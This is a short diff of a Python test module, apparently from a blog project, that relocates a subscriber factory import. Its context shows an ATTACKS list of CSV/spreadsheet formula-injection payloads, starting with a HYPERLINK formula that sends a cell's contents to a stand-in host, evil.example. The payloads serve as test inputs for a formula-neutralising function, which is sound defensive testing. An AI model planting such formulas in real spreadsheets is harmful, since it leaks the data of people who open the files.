@@ -13,9 +13,9 @@ from openpyxl import load_workbook
 from blog.contact.models import ContactSubmission
 from blog.events.models import Registration, RegistrationField
 from mrblogg.spreadsheets import FORMULA_STARTS, neutralise_formula
+from tests.blog.subscriptions.factory import make_subscriber
 from tests.factories import make_contact_page, make_event, make_registration_form
 from tests.staff import give_totp
-from tests.subscriptions.factory import make_subscriber
 
 ATTACKS = [
     '=HYPERLINK("https://evil.example/?d="&A2,"Klicka här")',
